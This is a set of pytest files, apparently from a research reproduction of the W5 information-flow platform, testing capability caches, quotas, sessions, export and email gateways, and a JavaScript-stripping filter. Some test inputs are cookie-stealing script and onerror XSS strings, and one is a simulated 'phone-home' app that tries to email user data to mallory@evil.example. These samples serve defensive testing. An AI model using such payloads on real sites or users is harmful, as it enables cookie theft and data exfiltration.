    def test_enable_app_mid_session_extends_caps(self, w5):
        w5.add_user("carol")  # no apps yet
        app = w5.provider.apps.get("blog")
        carol_tag = w5.provider.account("carol").data_tag
        assert plus(carol_tag) not in w5.provider.launch_caps(app, "alice")
        w5.provider.enable_app("carol", "blog")
        assert plus(carol_tag) in w5.provider.launch_caps(app, "alice")

    def test_disable_app_mid_session_shrinks_caps(self, w5):
        app = w5.provider.apps.get("blog")
        assert plus(alice_tag(w5)) in w5.provider.launch_caps(app, "bob")
        w5.provider.disable_app("alice", "blog")
        assert plus(alice_tag(w5)) not in w5.provider.launch_caps(app, "bob")
        # and alice's own relaunches lose her write privilege too
        assert w5.provider.launch_caps(app, "alice") \
            == w5.provider._scan_launch_caps(app, "alice")

    def test_disable_stops_cross_user_reads_end_to_end(self, w5):
        w5.client("alice").get("/app/blog/post", title="t", body="b")
        assert w5.client("alice").get(
            "/app/blog/read", author="alice", title="t").ok
        w5.provider.disable_app("alice", "blog")
        r = w5.client("alice").get("/app/blog/read",
                                   author="alice", title="t")
        assert r.status == 403  # no read cap -> label violation

    def test_group_roster_change_invalidates(self, w5):
        w5.add_user("carol", apps=("blog",))
        group = w5.provider.groups.create("alice", "club")
        app = w5.provider.apps.get("blog")
        w5.provider.launch_caps(app, "alice")  # warm
        w5.provider.groups.add_member("alice", "club", "carol",
                                      writer=True)
        assert plus(group.data_tag) in w5.provider.launch_caps(app, "carol")
        w5.provider.groups.remove_member("alice", "club", "carol")
        assert w5.provider.launch_caps(app, "carol") \
            == w5.provider._scan_launch_caps(app, "carol")

    def test_delete_account_drops_caps(self, w5):
        app = w5.provider.apps.get("blog")
        tag = alice_tag(w5)
        assert plus(tag) in w5.provider.launch_caps(app, "bob")  # warm
        w5.provider.delete_account("alice")
        assert plus(tag) not in w5.provider.launch_caps(app, "bob")


class TestAuthorityCache:
    def test_warm_oracle_hits(self, w5):
        w5.provider._authority_for("bob")
        before = w5.provider.declass.authority_stats()
        w5.provider._authority_for("bob")
        after = w5.provider.declass.authority_stats()
        assert after["hits"] == before["hits"] + 1

    def test_friendship_added_mid_session(self, w5):
        assert minus(alice_tag(w5)) not in w5.provider._authority_for("bob")
        w5.befriend("alice", "bob")
        assert minus(alice_tag(w5)) in w5.provider._authority_for("bob")

    def test_friendship_removed_mid_session(self, w5):
        w5.befriend("alice", "bob")
        assert minus(alice_tag(w5)) in w5.provider._authority_for("bob")
        w5.unfriend("alice", "bob")
        assert minus(alice_tag(w5)) not in w5.provider._authority_for("bob")

    def test_config_update_invalidates(self, w5):
        w5.provider._authority_for("bob")  # warm
        w5.provider.update_declassifier_config(
            "alice", "friends-only", friends={"bob"})
        assert minus(alice_tag(w5)) in w5.provider._authority_for("bob")

    def test_revoke_invalidates(self, w5):
        w5.befriend("alice", "bob")
        assert minus(alice_tag(w5)) in w5.provider._authority_for("bob")
        w5.provider.revoke_declassifier("alice", "friends-only")
        assert minus(alice_tag(w5)) not in w5.provider._authority_for("bob")

    def test_grant_invalidates(self, w5):
        assert minus(alice_tag(w5)) not in w5.provider._authority_for("bob")
        w5.provider.grant_builtin_declassifier("alice", "public")
        assert minus(alice_tag(w5)) in w5.provider._authority_for("bob")

    def test_time_embargo_is_never_cached(self, w5):
        w5.provider.grant_declassifier(
            "alice", TimeEmbargo({"release_at": 100.0}))
        declass = w5.provider.declass
        # before the embargo lifts: warm the cache thoroughly
        assert minus(alice_tag(w5)) not in w5.provider._authority_for("bob")
        assert minus(alice_tag(w5)) not in w5.provider._authority_for("bob")
        # the clock advances with NO invalidation event at all
        declass.now = 150.0
        assert minus(alice_tag(w5)) in w5.provider._authority_for("bob")
        # and back (e.g. a re-imposed embargo): still live
        declass.now = 0.0
        assert minus(alice_tag(w5)) not in w5.provider._authority_for("bob")

    def test_end_to_end_export_follows_friendship(self, w5):
        w5.client("alice").get("/app/blog/post", title="t", body="b")
        r = w5.client("bob").get("/app/blog/read", author="alice",
                                 title="t")
        assert r.status == 403
        w5.befriend("alice", "bob")
        r = w5.client("bob").get("/app/blog/read", author="alice",
                                 title="t")
        assert r.ok and r.body["body"] == "b"
        w5.unfriend("alice", "bob")
        r = w5.client("bob").get("/app/blog/read", author="alice",
                                 title="t")
        assert r.status == 403

    def test_kind_and_attribute_calls_bypass_the_cache(self, w5):
        declass = w5.provider.declass
        before = declass.authority_stats()["bypasses"]
        declass.authority_for("bob", kind="photo")
        assert declass.authority_stats()["bypasses"] == before + 1

    def test_disabled_plane_computes_fresh(self):
        slow = W5System(name="slow-plane",
                        config=ProviderConfig(fast_request_plane=False))
        slow.add_user("alice")
        slow.add_user("bob")
        slow.provider._authority_for("bob")
        slow.provider._authority_for("bob")
        stats = slow.provider.declass.authority_stats()
        assert stats["hits"] == 0 and stats["misses"] == 0
        assert slow.provider.capindex.stats()["hits"] == 0


class TestMetricsObservation:
    def test_request_plane_snapshot(self, w5):
        from repro.core import Metrics
        m = Metrics(w5.audit()).attach_request_plane(w5.provider)
        w5.client("alice").get("/app/blog/list")
        snap = m.request_plane_snapshot()
        assert {"launch_caps", "authority", "pool",
                "audit_dropped"} <= set(snap)
        assert snap["pool"]["enabled"]
        assert snap["launch_caps"]["misses"] >= 1
