"""Unit tests for the query schedulers."""

import pytest

from repro.resources import FairShareScheduler, FifoScheduler, Job, slowdown


class TestJob:
    def test_positive_cost_required(self):
        with pytest.raises(ValueError):
            Job("a", 0)


class TestFifo:
    def test_sequential_completion(self):
        times = FifoScheduler().completion_times(
            [Job("a", 3), Job("b", 2)])
        assert times == {"a": 3, "b": 5}

    def test_hog_blocks_everyone(self):
        times = FifoScheduler().completion_times(
            [Job("hog", 1000), Job("honest", 1)])
        assert times["honest"] == 1001

    def test_multiple_jobs_same_owner(self):
        times = FifoScheduler().completion_times(
            [Job("a", 2), Job("a", 2)])
        assert times == {"a": 4}


class TestFairShare:
    def test_round_robin_interleaves(self):
        times = FairShareScheduler().completion_times(
            [Job("hog", 1000), Job("honest", 1)])
        assert times["honest"] <= 2  # one tick each way
        assert times["hog"] == 1001

    def test_equal_jobs_fair(self):
        times = FairShareScheduler().completion_times(
            [Job("a", 5), Job("b", 5)])
        assert abs(times["a"] - times["b"]) <= 1

    def test_total_work_conserved(self):
        jobs = [Job("a", 7), Job("b", 3), Job("c", 5)]
        times = FairShareScheduler().completion_times(jobs)
        assert max(times.values()) == 15

    def test_queued_jobs_per_owner(self):
        times = FairShareScheduler().completion_times(
            [Job("a", 1), Job("a", 1), Job("b", 1)])
        assert times["b"] <= 2
        assert times["a"] == 3

    def test_single_owner(self):
        times = FairShareScheduler().completion_times([Job("a", 4)])
        assert times == {"a": 4}


class TestSlowdown:
    def test_slowdown_relative_to_solo(self):
        times = {"honest": 1001}
        assert slowdown(times, {"honest": 1}) == {"honest": 1001.0}

    def test_missing_solo_cost_skipped(self):
        assert slowdown({"x": 10}, {}) == {}

    def test_fairshare_bounds_honest_slowdown(self):
        """The C9 shape: under fair-share an honest app's slowdown is
        about the number of contenders, not the hog's job size."""
        jobs = [Job("hog", 10_000), Job("honest", 10)]
        fifo = slowdown(FifoScheduler().completion_times(jobs),
                        {"hog": 10_000, "honest": 10})
        fair = slowdown(FairShareScheduler().completion_times(jobs),
                        {"hog": 10_000, "honest": 10})
        assert fifo["honest"] > 100
        assert fair["honest"] <= 2.1
