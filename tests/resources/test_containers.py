"""Unit tests for resource containers and quotas."""

import pytest

from repro.kernel import Kernel, ResourceExhausted
from repro.resources import ResourceManager


class TestQuotaResolution:
    def test_default_quota(self):
        rm = ResourceManager(default_quotas={"messages": 5})
        k = Kernel(resources=rm)
        p = k.spawn_trusted("anyproc")
        assert rm.quota_for(p, "messages") == 5
        assert rm.quota_for(p, "disk") == float("inf")

    def test_prefix_override(self):
        rm = ResourceManager(default_quotas={"messages": 100},
                             overrides={"app:hog": {"messages": 3}})
        k = Kernel(resources=rm)
        hog = k.spawn_trusted("app:hog")
        other = k.spawn_trusted("app:nice")
        assert rm.quota_for(hog, "messages") == 3
        assert rm.quota_for(other, "messages") == 100

    def test_longest_prefix_wins(self):
        rm = ResourceManager(overrides={"app:": {"syscalls": 100},
                                        "app:hog": {"syscalls": 3}})
        k = Kernel(resources=rm)
        hog = k.spawn_trusted("app:hog-v2")
        assert rm.quota_for(hog, "syscalls") == 3


class TestCharging:
    def test_within_quota_accumulates(self):
        rm = ResourceManager(default_quotas={"disk": 100})
        k = Kernel(resources=rm)
        p = k.spawn_trusted("p")
        rm.charge(p, "disk", 60)
        rm.charge(p, "disk", 40)
        assert rm.usage_of(p).get("disk") == 100

    def test_over_quota_refused(self):
        rm = ResourceManager(default_quotas={"disk": 100})
        k = Kernel(resources=rm)
        p = k.spawn_trusted("p")
        rm.charge(p, "disk", 100)
        with pytest.raises(ResourceExhausted):
            rm.charge(p, "disk", 1)
        assert rm.denial_count("disk") == 1

    def test_refused_charge_not_recorded(self):
        rm = ResourceManager(default_quotas={"disk": 10})
        k = Kernel(resources=rm)
        p = k.spawn_trusted("p")
        with pytest.raises(ResourceExhausted):
            rm.charge(p, "disk", 11)
        assert rm.usage_of(p).get("disk") == 0

    def test_per_process_isolation(self):
        rm = ResourceManager(default_quotas={"disk": 10})
        k = Kernel(resources=rm)
        a, b = k.spawn_trusted("a"), k.spawn_trusted("b")
        rm.charge(a, "disk", 10)
        rm.charge(b, "disk", 10)  # b has its own container

    def test_total_by_prefix(self):
        rm = ResourceManager()
        k = Kernel(resources=rm)
        a = k.spawn_trusted("app:x")
        b = k.spawn_trusted("app:y")
        c = k.spawn_trusted("gateway")
        rm.charge(a, "disk", 5)
        rm.charge(b, "disk", 7)
        rm.charge(c, "disk", 100)
        assert rm.total("disk", name_prefix="app:") == 12


class TestKernelIntegration:
    def test_kernel_charges_syscalls(self):
        rm = ResourceManager(default_quotas={"messages": 2})
        k = Kernel(resources=rm)
        a = k.spawn_trusted("a")
        b = k.spawn_trusted("b")
        from repro.kernel import RECV, SEND
        out = k.create_endpoint(a, direction=SEND)
        inbox = k.create_endpoint(b, direction=RECV)
        k.send(a, out, inbox, 1)
        k.send(a, out, inbox, 2)
        with pytest.raises(ResourceExhausted):
            k.send(a, out, inbox, 3)
        assert k.pending(b) == 2  # third send never enqueued

    def test_tag_quota(self):
        rm = ResourceManager(default_quotas={"tags": 1})
        k = Kernel(resources=rm)
        p = k.spawn_trusted("p")
        k.create_tag(p)
        with pytest.raises(ResourceExhausted):
            k.create_tag(p)

    def test_spawn_quota(self):
        rm = ResourceManager(default_quotas={"processes": 1})
        k = Kernel(resources=rm)
        p = k.spawn_trusted("p")
        k.spawn(p, "child1")
        with pytest.raises(ResourceExhausted):
            k.spawn(p, "child2")

    def test_fs_disk_quota(self):
        from repro.fs import LabeledFileSystem
        rm = ResourceManager(default_quotas={"disk": 10})
        k = Kernel(resources=rm)
        fs = LabeledFileSystem(k)
        p = k.spawn_trusted("p")
        fs.create(p, "/small", "12345")
        with pytest.raises(ResourceExhausted):
            fs.create(p, "/big", "x" * 100)

    def test_db_query_quota(self):
        from repro.db import LabeledStore
        rm = ResourceManager(default_quotas={"db_queries": 2})
        k = Kernel(resources=rm)
        store = LabeledStore(k)
        p = k.spawn_trusted("p")
        store.create_table(p, "t")
        store.insert(p, "t", {"a": 1})
        with pytest.raises(ResourceExhausted):
            store.select(p, "t")
