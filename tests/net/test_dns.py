"""Tests for the DNS front-end and multi-origin browsing."""

import pytest

from repro.apps import install_standard_apps
from repro.net import NameNotFound, Resolver, WebBrowserClient, split_url
from repro.platform import Provider


class TestSplitUrl:
    def test_http_and_https(self):
        assert split_url("http://w5.example/app/blog") == \
            ("w5.example", "/app/blog")
        assert split_url("https://w5.example/x") == ("w5.example", "/x")

    def test_schemeless(self):
        assert split_url("w5.example/x/y") == ("w5.example", "/x/y")

    def test_bare_host(self):
        assert split_url("http://w5.example") == ("w5.example", "/")

    def test_empty_host_rejected(self):
        with pytest.raises(ValueError):
            split_url("http:///path")


class TestResolver:
    def test_register_and_resolve(self):
        r = Resolver()
        transport = lambda req: None  # noqa: E731
        r.register("W5.Example", transport)
        assert r.resolve("w5.example") is transport
        assert r.hostnames() == ["w5.example"]

    def test_unknown_host(self):
        with pytest.raises(NameNotFound):
            Resolver().resolve("nowhere.example")


class TestWebBrowserClient:
    @pytest.fixture()
    def internet(self):
        """Two providers under two hostnames, bob on both."""
        resolver = Resolver()
        providers = {}
        for host, name in (("alpha.w5", "w5-alpha"),
                           ("beta.w5", "w5-beta")):
            p = Provider(name=name)
            install_standard_apps(p)
            p.signup("bob", "pw")
            p.enable_app("bob", "blog")
            resolver.register(host, p.transport())
            providers[host] = p
        return resolver, providers

    def test_browse_routes_by_hostname(self, internet):
        resolver, providers = internet
        browser = WebBrowserClient("bob", resolver)
        r = browser.browse("http://alpha.w5/")
        assert r.body["provider"] == "w5-alpha"
        r = browser.browse("http://beta.w5/")
        assert r.body["provider"] == "w5-beta"

    def test_cookies_are_per_origin(self, internet):
        resolver, providers = internet
        browser = WebBrowserClient("bob", resolver)
        browser.login("http://alpha.w5/login", "pw")
        assert browser.origin("alpha.w5").logged_in()
        assert not browser.origin("beta.w5").logged_in()

    def test_full_flow_on_one_origin(self, internet):
        resolver, providers = internet
        browser = WebBrowserClient("bob", resolver)
        browser.login("http://alpha.w5/login", "pw")
        browser.browse("http://alpha.w5/app/blog/post", method="POST",
                       params={"title": "t", "body": "b"})
        r = browser.browse("http://alpha.w5/app/blog/read",
                           params={"title": "t"})
        assert r.body["body"] == "b"

    def test_unknown_host_raises(self, internet):
        resolver, __ = internet
        browser = WebBrowserClient("bob", resolver)
        with pytest.raises(NameNotFound):
            browser.browse("http://gamma.w5/")

    def test_leak_oracle_spans_origins(self, internet):
        resolver, providers = internet
        browser = WebBrowserClient("bob", resolver)
        browser.login("http://alpha.w5/login", "pw")
        browser.browse("http://alpha.w5/app/blog/post", method="POST",
                       params={"title": "t", "body": "NEEDLE-XYZ"})
        browser.browse("http://alpha.w5/app/blog/read",
                       params={"title": "t"})
        assert browser.ever_received_anywhere("NEEDLE-XYZ")
        assert not browser.ever_received_anywhere("ABSENT")
