"""Unit tests for session management."""

import pytest

from repro.net import AuthError, SessionManager


@pytest.fixture()
def sm():
    m = SessionManager()
    m.register("bob", "hunter2")
    return m


class TestAccounts:
    def test_register_and_login(self, sm):
        s = sm.login("bob", "hunter2")
        assert s.username == "bob"
        assert sm.resolve(s.token) == s

    def test_duplicate_register(self, sm):
        with pytest.raises(AuthError):
            sm.register("bob", "x")

    def test_has_user(self, sm):
        assert sm.has_user("bob")
        assert not sm.has_user("eve")

    def test_wrong_password(self, sm):
        with pytest.raises(AuthError):
            sm.login("bob", "wrong")

    def test_unknown_user(self, sm):
        with pytest.raises(AuthError):
            sm.login("eve", "x")


class TestSessions:
    def test_tokens_unique(self, sm):
        tokens = {sm.login("bob", "hunter2").token for __ in range(20)}
        assert len(tokens) == 20

    def test_resolve_garbage(self, sm):
        assert sm.resolve("bogus") is None
        assert sm.resolve(None) is None
        assert sm.resolve("") is None

    def test_logout(self, sm):
        s = sm.login("bob", "hunter2")
        sm.logout(s.token)
        assert sm.resolve(s.token) is None

    def test_active_sessions(self, sm):
        sm.register("amy", "pw")
        sm.login("bob", "hunter2")
        sm.login("bob", "hunter2")
        sm.login("amy", "pw")
        assert sm.active_sessions("bob") == 2
        assert sm.active_sessions("amy") == 1

    def test_deterministic_with_seed(self):
        a, b = SessionManager(seed=7), SessionManager(seed=7)
        a.register("u", "p")
        b.register("u", "p")
        assert a.login("u", "p").token == b.login("u", "p").token


class TestExpiry:
    def _manager(self, ttl):
        m = SessionManager(ttl=ttl)
        m.register("bob", "pw")
        return m

    def test_fresh_session_resolves(self):
        m = self._manager(ttl=10)
        s = m.login("bob", "pw")
        m.tick(5)
        assert m.resolve(s.token) == s

    def test_expired_session_rejected_and_dropped(self):
        m = self._manager(ttl=10)
        s = m.login("bob", "pw")
        m.tick(11)
        assert m.resolve(s.token) is None
        # a second resolve is also None (token was purged)
        assert m.resolve(s.token) is None

    def test_no_ttl_never_expires(self):
        m = self._manager(ttl=None)
        s = m.login("bob", "pw")
        m.tick(1e9)
        assert m.resolve(s.token) == s

    def test_relogin_after_expiry(self):
        m = self._manager(ttl=10)
        s1 = m.login("bob", "pw")
        m.tick(11)
        assert m.resolve(s1.token) is None
        s2 = m.login("bob", "pw")
        assert m.resolve(s2.token) == s2
