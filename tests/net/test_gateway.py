"""Unit tests for the security-perimeter gateway."""

import pytest

from repro.kernel import Kernel
from repro.labels import CapabilitySet, Label, minus
from repro.net import (ExportViolation, ExternalClient, Gateway, HttpRequest,
                       HttpResponse, JS_ALLOW, SESSION_COOKIE, SessionManager,
                       ok)


@pytest.fixture()
def kernel():
    return Kernel()


@pytest.fixture()
def world(kernel):
    """A gateway where bob has export authority over tag_bob only."""
    sessions = SessionManager()
    sessions.register("bob", "pw")
    sessions.register("amy", "pw")
    root = kernel.spawn_trusted("root")
    tag_bob = kernel.create_tag(root, purpose="bob-data", tag_owner="bob")
    tag_amy = kernel.create_tag(root, purpose="amy-data", tag_owner="amy")
    authority = {
        "bob": CapabilitySet([minus(tag_bob)]),
        "amy": CapabilitySet([minus(tag_amy)]),
    }
    gw = Gateway(kernel, sessions,
                 authority_for=lambda u: authority.get(u, CapabilitySet.EMPTY))
    return gw, sessions, tag_bob, tag_amy


class TestAuthentication:
    def test_cookie_resolves_session(self, world):
        gw, sessions, *_ = world
        s = sessions.login("bob", "pw")
        req = HttpRequest("GET", "/", cookies={SESSION_COOKIE: s.token})
        assert gw.authenticate(req).username == "bob"

    def test_no_cookie_is_anonymous(self, world):
        gw, *_ = world
        assert gw.authenticate(HttpRequest("GET", "/")) is None

    def test_forged_cookie_is_anonymous(self, world):
        gw, *_ = world
        req = HttpRequest("GET", "/", cookies={SESSION_COOKIE: "forged"})
        assert gw.authenticate(req) is None


class TestExportCheck:
    def test_own_data_exits_to_owner(self, world):
        gw, __, tag_bob, __ = world
        gw.export_check(Label([tag_bob]), "bob")
        assert gw.exports_allowed == 1

    def test_others_data_blocked(self, world):
        gw, __, tag_bob, __ = world
        with pytest.raises(ExportViolation):
            gw.export_check(Label([tag_bob]), "amy")
        assert gw.exports_denied == 1

    def test_anonymous_gets_public_only(self, world):
        gw, __, tag_bob, __ = world
        gw.export_check(Label.EMPTY, None)
        with pytest.raises(ExportViolation):
            gw.export_check(Label([tag_bob]), None)

    def test_commingled_data_blocked_for_either(self, world):
        """A response mixing bob's and amy's tags exits to nobody —
        the boilerplate policy with no declassifier in play."""
        gw, __, tag_bob, tag_amy = world
        both = Label([tag_bob, tag_amy])
        for user in ("bob", "amy", None):
            with pytest.raises(ExportViolation):
                gw.export_check(both, user)

    def test_denials_audited(self, world, kernel):
        gw, __, tag_bob, __ = world
        with pytest.raises(ExportViolation):
            gw.export_check(Label([tag_bob]), "amy")
        denies = kernel.audit.denials(category="export")
        assert len(denies) == 1
        assert "amy" in denies[0].detail


class TestEgress:
    def test_egress_strips_label(self, world):
        gw, __, tag_bob, __ = world
        out = gw.egress(ok({"photo": 1}, label=Label([tag_bob])), "bob")
        assert out.ok
        assert out.content_label == Label.EMPTY

    def test_egress_refusal_is_generic_403(self, world):
        """The refusal must not name the offending tags — that would
        itself leak; details go to the audit log only."""
        gw, __, tag_bob, __ = world
        out = gw.egress(ok("amy-sees-this?", label=Label([tag_bob])), "amy")
        assert out.status == 403
        assert "tag" not in str(out.body)
        assert str(tag_bob.tag_id) not in str(out.body)

    def test_js_stripped_by_default(self, world):
        gw, *_ = world
        out = gw.egress(ok("<b>x</b><script>evil()</script>"), "bob")
        assert "script" not in out.body

    def test_js_allowed_when_policy_allows(self, kernel):
        sessions = SessionManager()
        gw = Gateway(kernel, sessions,
                     authority_for=lambda u: CapabilitySet.EMPTY,
                     js_policy=JS_ALLOW)
        out = gw.egress(ok("<script>fine()</script>"), None)
        assert "script" in out.body

    def test_bad_policy_rejected(self, kernel):
        with pytest.raises(ValueError):
            Gateway(kernel, SessionManager(),
                    authority_for=lambda u: CapabilitySet.EMPTY,
                    js_policy="maybe")


class TestExternalClient:
    def test_cookie_jar_updates(self):
        def transport(req):
            return HttpResponse(body="hi", set_cookies={"k": "v"})
        c = ExternalClient("bob", transport)
        c.get("/")
        assert c.cookies == {"k": "v"}

    def test_received_log_and_leak_oracle(self):
        def transport(req):
            return HttpResponse(body={"data": "SECRET"})
        c = ExternalClient("eve", transport)
        c.get("/")
        assert c.ever_received("SECRET")
        assert not c.ever_received("OTHER")

    def test_substring_leak_detection(self):
        def transport(req):
            return HttpResponse(body="<html>SECRET</html>")
        c = ExternalClient("eve", transport)
        c.get("/")
        assert c.ever_received("SECRET")

    def test_list_body_leak_detection(self):
        def transport(req):
            return HttpResponse(body=["a", "SECRET"])
        c = ExternalClient("eve", transport)
        c.get("/")
        assert c.ever_received("SECRET")
