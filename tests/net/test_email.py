"""Unit tests for the email perimeter exit."""

import pytest

from repro.kernel import Kernel
from repro.labels import CapabilitySet, Label, minus
from repro.net import EmailGateway, ExportViolation


@pytest.fixture()
def world():
    kernel = Kernel()
    root = kernel.spawn_trusted("root")
    tag_bob = kernel.create_tag(root, purpose="bob", tag_owner="bob")
    authority = {"bob": CapabilitySet([minus(tag_bob)])}
    gw = EmailGateway(kernel, authority_for=lambda u: authority.get(
        u, CapabilitySet.EMPTY))
    gw.register_address("bob@w5", owner="bob")
    return kernel, gw, tag_bob


class TestAddressBook:
    def test_registered_mailbox(self, world):
        __, gw, __ = world
        assert gw.mailbox("bob@w5").owner == "bob"

    def test_unknown_address_is_external(self, world):
        __, gw, __ = world
        box = gw.mailbox("stranger@elsewhere")
        assert box.owner is None


class TestExportPolicy:
    def test_own_data_mails_to_owner(self, world):
        __, gw, tag_bob = world
        mail = gw.send("bob@w5", "digest", {"x": 1}, Label([tag_bob]))
        assert gw.mailbox("bob@w5").messages == [mail]
        assert gw.sent == 1

    def test_own_data_refused_to_strangers(self, world):
        __, gw, tag_bob = world
        with pytest.raises(ExportViolation):
            gw.send("mallory@evil.example", "backup", {"loot": 1},
                    Label([tag_bob]))
        assert gw.refused == 1
        assert gw.mailbox("mallory@evil.example").messages == []

    def test_public_data_mails_anywhere(self, world):
        __, gw, __ = world
        gw.send("anyone@anywhere", "newsletter", "public text",
                Label.EMPTY)
        assert len(gw.mailbox("anyone@anywhere").messages) == 1

    def test_refusal_audited(self, world):
        kernel, gw, tag_bob = world
        with pytest.raises(ExportViolation):
            gw.send("mallory@evil.example", "s", "b", Label([tag_bob]))
        assert kernel.audit.count(category="export", allowed=False) == 1


class TestEndToEndViaApps:
    def test_digest_email_to_self(self):
        from repro import W5System
        w5 = W5System()
        users = {}
        for name in ("bob", "amy"):
            users[name] = w5.add_user(
                name, apps=["blog", "social", "recommender"],
                friends=[u for u in ("bob", "amy") if u != name])
        users["amy"].get("/app/blog/post", title="t", body="amy-content")
        users["bob"].get("/app/social/befriend", friend="amy")
        r = users["bob"].get("/app/recommender/email")
        assert r.ok
        inbox = w5.provider.email.mailbox("bob@w5").messages
        assert len(inbox) == 1
        assert inbox[0].subject == "your daily digest"

    def test_phone_home_app_blocked(self):
        """§3.1 verbatim: the app cannot email the victim's data to its
        author, even though the victim enabled it."""
        from repro import W5System
        w5 = W5System(with_adversaries=True)
        bob = w5.add_user("bob", apps=["phone-home"])
        w5.provider.store_user_data("bob", "diary.txt", "SECRET-DIARY")
        r = bob.get("/app/phone-home/go", victim="bob")
        assert r.status in (403, 500)
        evil_inbox = w5.provider.email.mailbox(
            "mallory@evil.example").messages
        assert evil_inbox == []

    def test_anonymous_has_no_mailbox(self):
        from repro import W5System
        w5 = W5System()
        w5.add_user("bob", apps=["recommender"])
        anon = w5.anonymous_client()
        r = anon.get("/app/recommender/email")
        assert r.body.get("error") == "log in first"
