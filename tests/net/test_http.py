"""Unit tests for the HTTP object model and the JS perimeter filter."""

from repro.labels import Label, TagRegistry
from repro.net import (HttpRequest, HttpResponse, contains_javascript, error,
                       ok, strip_javascript)


class TestRequest:
    def test_param_default(self):
        r = HttpRequest("GET", "/x", params={"a": 1})
        assert r.param("a") == 1
        assert r.param("b", "dflt") == "dflt"

    def test_path_parts(self):
        assert HttpRequest("GET", "/app/photos/view").path_parts() == \
            ["app", "photos", "view"]
        assert HttpRequest("GET", "/").path_parts() == []


class TestResponse:
    def test_ok_helper(self):
        reg = TagRegistry()
        t = reg.create()
        r = ok({"x": 1}, label=Label([t]))
        assert r.ok and r.status == 200
        assert t in r.content_label

    def test_error_helper(self):
        r = error(404, "gone")
        assert not r.ok
        assert r.body["error"] == "gone"
        assert r.content_label == Label.EMPTY

    def test_default_label_empty(self):
        assert HttpResponse().content_label == Label.EMPTY


class TestJsFilter:
    def test_strips_script_blocks(self):
        html = "<p>hi</p><script>steal(document.cookie)</script><p>bye</p>"
        cleaned = strip_javascript(html)
        assert "script" not in cleaned.lower()
        assert "<p>hi</p>" in cleaned and "<p>bye</p>" in cleaned

    def test_strips_multiline_script(self):
        html = "a<script type='text/javascript'>\nx\ny\n</script>b"
        assert strip_javascript(html) == "ab"

    def test_strips_inline_handlers(self):
        html = '<img src="x" onerror="leak()">'
        cleaned = strip_javascript(html)
        assert "onerror" not in cleaned

    def test_detects_javascript(self):
        assert contains_javascript("<script>x</script>")
        assert contains_javascript('<a onclick="x()">')
        assert not contains_javascript("<p>plain</p>")

    def test_plain_html_untouched(self):
        html = "<div class='x'>text</div>"
        assert strip_javascript(html) == html
