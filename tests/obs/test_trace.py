"""Tracer mechanics: span trees, context, budget, the null path."""

import pytest

from repro.obs import (MAX_SPANS_PER_TRACE, NULL_TRACER, NullTracer,
                       Tracer)
from repro.obs.trace import _NULL_SPAN


class TestSpanTree:
    def test_root_then_children_nest(self):
        t = Tracer()
        with t.request("GET /x") as root:
            with t.span("gateway.admit"):
                pass
            with t.span("app.run") as app:
                with t.span("db.select"):
                    pass
        assert [c.name for c in root.children] == ["gateway.admit",
                                                   "app.run"]
        assert [c.name for c in app.children] == ["db.select"]

    def test_span_ids_are_sequential_per_trace(self):
        t = Tracer()
        with t.request("r") as root:
            with t.span("a") as a:
                with t.span("b") as b:
                    pass
        assert (root.span_id, a.span_id, b.span_id) == (1, 2, 3)
        # a fresh trace restarts the sequence
        with t.request("r2") as root2:
            pass
        assert root2.span_id == 1

    def test_walk_is_depth_first(self):
        t = Tracer()
        with t.request("r") as root:
            with t.span("a"):
                with t.span("a1"):
                    pass
            with t.span("b"):
                pass
        names = [s.name for s in root.trace.walk()]
        assert names == ["r", "a", "a1", "b"]

    def test_durations_are_monotonic_and_nested(self):
        t = Tracer()
        with t.request("r") as root:
            with t.span("inner") as inner:
                pass
        assert root.duration is not None and root.duration >= 0
        assert inner.duration is not None
        assert inner.duration <= root.duration

    def test_exception_marks_error_and_reraises(self):
        t = Tracer()
        with pytest.raises(ValueError):
            with t.request("r") as root:
                with t.span("boom") as boom:
                    raise ValueError("nope")
        assert boom.status == "error"
        assert boom.attrs["error"] == "ValueError"
        assert root.status == "error"  # propagated through the root too
        assert root.trace.error

    def test_http_status_attr_marks_trace_error(self):
        t = Tracer()
        with t.request("r", status=500) as root:
            pass
        assert root.trace.error
        t2 = Tracer()
        with t2.request("r", status=200) as ok:
            pass
        assert not ok.trace.error


class TestContext:
    def test_current_ids_track_active_span(self):
        t = Tracer()
        assert t.current_ids() is None
        with t.request("r") as root:
            assert t.current_ids() == (root.trace.trace_id, 1)
            with t.span("child"):
                assert t.current_ids() == (root.trace.trace_id, 2)
            assert t.current_ids() == (root.trace.trace_id, 1)
        assert t.current_ids() is None

    def test_annotate_hits_current_span(self):
        t = Tracer()
        with t.request("r") as root:
            t.annotate(user="alice")
            with t.span("c") as c:
                t.annotate(rows=3)
        assert root.attrs["user"] == "alice"
        assert c.attrs["rows"] == 3

    def test_annotate_outside_trace_is_noop(self):
        Tracer().annotate(user="nobody")  # must not raise

    def test_span_outside_trace_is_null(self):
        t = Tracer()
        assert t.span("orphan") is _NULL_SPAN

    def test_nested_request_degrades_to_child_span(self):
        t = Tracer()
        with t.request("outer") as outer:
            with t.request("inner") as inner:
                assert inner.trace is outer.trace
        assert inner in outer.children
        assert t.stats()["traces_started"] == 1


class TestFinalization:
    def test_sink_called_once_per_root(self):
        t = Tracer()
        got = []
        t.sink = got.append
        with t.request("r") as root:
            with t.span("c"):
                pass
        assert got == [root.trace]
        assert t.stats()["traces_finished"] == 1

    def test_latency_histograms_keyed_by_span_name(self):
        t = Tracer(fold_every=1)  # fold every span of every trace
        for _ in range(3):
            with t.request("GET /x"):
                with t.span("db.select"):
                    pass
        lat = t.latencies()
        assert lat["db.select"]["count"] == 3
        assert lat["GET /x"]["count"] == 3
        assert "p95_us" in lat["db.select"]

    def test_child_folding_is_sampled_roots_exact(self):
        t = Tracer(fold_every=4)
        for _ in range(8):
            with t.request("GET /x"):
                with t.span("db.select"):
                    pass
        lat = t.latencies()
        # roots always fold; children only on traces 1 and 5
        assert lat["GET /x"]["count"] == 8
        assert lat["db.select"]["count"] == 2

    def test_trace_ids_are_unique(self):
        t = Tracer()
        ids = set()
        for _ in range(5):
            with t.request("r") as root:
                pass
            ids.add(root.trace.trace_id)
        assert len(ids) == 5


class TestBudget:
    def test_spans_beyond_budget_are_dropped_not_lost(self):
        t = Tracer(max_spans=4)
        with t.request("r") as root:
            for _ in range(10):
                with t.span("c"):
                    pass
        trace = root.trace
        assert trace.n_spans == 4
        assert trace.truncated == 7
        assert t.spans_dropped == 7

    def test_budget_overflow_returns_null_span(self):
        t = Tracer(max_spans=1)
        with t.request("r"):
            assert t.span("over") is _NULL_SPAN

    def test_default_budget_matches_module_constant(self):
        assert Tracer().max_spans == MAX_SPANS_PER_TRACE


class TestNullTracer:
